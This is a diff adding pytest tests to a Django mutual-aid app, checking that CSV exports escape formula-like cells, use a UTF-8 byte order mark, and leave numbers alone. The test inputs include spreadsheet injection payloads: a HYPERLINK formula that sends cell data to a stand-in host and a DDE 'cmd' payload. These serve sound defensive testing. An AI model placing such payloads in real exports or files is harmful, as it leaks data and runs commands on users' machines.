@@ -10,6 +10,7 @@ import json
 import pytest
 from django.core.management import CommandError, call_command
 
+from mutua.aid.models import Ask
 from mutua.aid.services import claim_ask, create_offer
 from mutua.core.tests.factories import HACKNEY, make_ask, make_group
 from mutua.privacy.models import AccessLog
@@ -108,3 +109,57 @@ def test_unknown_kind_or_format_is_refused_by_the_parser():
         export("secrets")
     with pytest.raises(CommandError, match="invalid choice"):
         export("asks", "--format", "xml")
+
+
+@pytest.mark.parametrize(
+    "what",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"Click for details")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_export_cells_that_would_start_a_formula_are_escaped(ward, what, tmp_path):
+    # Anyone can make an ask, so its text is anyone's: an anonymous asker wrote this.
+    make_ask(what=what)
+    target = tmp_path / "asks.csv"
+
+    export("asks", "--out", str(target))
+
+    data = target.read_bytes()
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    stored = Ask.objects.get().what
+    assert rows[0]["what"] == "'" + stored
+    for cell in rows[0].values():
+        assert not cell.startswith(("=", "+", "-", "@")) or _is_number(cell), cell
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_export_files_are_utf8_with_a_byte_order_mark_for_excel(ward, tmp_path):
+    make_ask(what="Zakupy dla pani Łucji, café au lait, خبز")
+    target = tmp_path / "asks.csv"
+
+    export("asks", "--out", str(target))
+
+    data = target.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf")
+    assert "Łucji, café au lait, خبز" in data.decode("utf-8-sig")
+
+
+def test_numbers_are_not_escaped(ward):
+    make_ask(what="Bread")
+
+    rows = list(csv.DictReader(io.StringIO(export("asks"))))
+
+    assert not rows[0]["urgency"].startswith("'")
+    assert not rows[0]["id"].startswith("'")
